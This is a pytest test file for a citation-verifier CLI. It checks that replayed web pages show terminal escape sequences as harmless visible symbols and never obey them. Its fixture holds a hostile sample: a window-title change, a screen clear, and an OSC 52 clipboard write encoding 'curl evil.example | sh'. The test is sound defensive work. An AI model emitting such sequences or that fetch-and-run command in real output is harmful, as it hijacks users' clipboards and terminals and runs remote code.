"""``audit replay`` prints a stored page whose text holds terminal control sequences (a window
title ``ESC]0;…BEL``, an OSC 52 that writes the clipboard, ``ESC[2J``) as visible, inert
stand-ins, on a terminal and piped alike; ``--raw`` gives the stored bytes exactly, to a file or
a pipe, never to a terminal (issue #48 item 5). A real loopback page, the real CLI, a real
pseudo-terminal."""

from __future__ import annotations

import hashlib
import json
import os
import pty
import re
import select
import subprocess
import sys
import time
import tty
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from citation_verifier.cli import app
from citation_verifier.demo.loopback import LoopbackSite, Page, Route

Serve = Callable[[Mapping[str, Route]], LoopbackSite]
CLAIM = "Water boils at 100 degrees Celsius at sea level."
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # base64 of "curl evil.example | sh"
HOSTILE = f"\x1b]0;pwned title\x07{CLIPBOARD}\x1b[2J"
PAGE = (
    f"Boiling\n\n{HOSTILE}{CLAIM} It boils at a lower temperature on a mountain top.\n\n"
    "Pasta\tcooks slower there.\r\nA lone carriage return\rwould overwrite this line.\n"
)
# Any C0 control but newline and tab, DEL, any C1 control.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@dataclass(frozen=True)
class Stored:
    """The snapshot ids of the page's text (newlines normalised) and of its body as served."""

    text: str
    raw: str


@pytest.fixture
def stored(serve: Serve, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Stored:
    """The page verified and recorded through the CLI, with its raw body kept."""
    site = serve({"/plain": Page(PAGE, content_type="text/plain; charset=utf-8")})
    monkeypatch.setenv("ALLOW_PRIVATE_URLS", "true")
    monkeypatch.setenv("CACHE_DIR", str(tmp_path))
    monkeypatch.setenv("SNAPSHOT_RAW_BODY", "true")
    verified = CliRunner().invoke(app, ["verify", "--json", CLAIM, site.url("/plain")])
    assert verified.exit_code == 0, verified.output
    [citation] = json.loads(verified.stdout)["citations"]
    shown = json.loads(
        CliRunner().invoke(app, ["audit", "show", "--json", citation["audit_id"]]).stdout
    )
    return Stored(shown["snapshot_id"], shown["raw_snapshot_id"])


def in_a_terminal(*args: str) -> tuple[int, bytes]:
    """Run the CLI with standard output on a pseudo-terminal in raw mode (bytes as written, no
    newline translation); its exit status and everything it printed there."""
    controller, terminal = pty.openpty()
    tty.setraw(terminal)
    command = subprocess.Popen(
        [sys.executable, "-m", "citation_verifier", *args],
        stdin=subprocess.DEVNULL,
        stdout=terminal,
        stderr=terminal,
        env=os.environ.copy(),
    )
    os.close(terminal)
    seen, deadline = b"", time.monotonic() + 120
    try:
        while time.monotonic() < deadline:
            if select.select([controller], [], [], 0.2)[0]:
                try:
                    chunk = os.read(controller, 65536)
                except OSError:  # EIO: the command closed the terminal
                    break
                if not chunk:
                    break
                seen += chunk
            elif command.poll() is not None:
                break
        return command.wait(timeout=30), seen
    finally:
        command.kill()
        command.wait()
        os.close(controller)


def test_replay_on_a_terminal_shows_control_sequences_never_obeys_them(stored: Stored) -> None:
    for snapshot in (stored.text, stored.raw):
        status, printed = in_a_terminal("audit", "replay", snapshot)
        assert status == 0, printed
        shown = printed.decode("utf-8")
        assert "\x1b" not in shown and "\x07" not in shown, repr(shown)
        assert not CONTROL.search(shown), repr(shown)
        assert "␛]0;pwned title␇␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇␛[2J" in shown
        assert CLAIM in shown and "Pasta\tcooks" in shown  # the text, tabs and newlines kept
    # The body as served: a CRLF line end is a line end, a lone CR is shown.
    assert "slower there.\nA lone carriage return␍would" in shown


def test_replay_piped_prints_the_text_with_control_characters_made_visible(
    stored: Stored,
) -> None:
    for snapshot in (stored.text, stored.raw):
        piped = CliRunner().invoke(app, ["audit", "replay", snapshot])
        assert piped.exit_code == 0, piped.output
        assert not CONTROL.search(piped.stdout), repr(piped.stdout)
        assert "␛]52;c;" in piped.stdout and f"{CLAIM} It boils" in piped.stdout
        assert "slower there.\nA lone" in piped.stdout


def test_replay_raw_gives_the_stored_bytes_to_a_pipe_and_refuses_a_terminal(
    stored: Stored,
) -> None:
    piped = CliRunner().invoke(app, ["audit", "replay", "--raw", stored.raw])
    assert piped.exit_code == 0, piped.output
    assert piped.stdout_bytes == PAGE.encode()  # the body as served, control bytes and all
    assert hashlib.sha256(piped.stdout_bytes).hexdigest() == stored.raw
    status, printed = in_a_terminal("audit", "replay", "--raw", stored.raw)
    assert status == 2
    assert b"\x1b]" not in printed and b"--raw" in printed and b"redirect it to a file" in printed
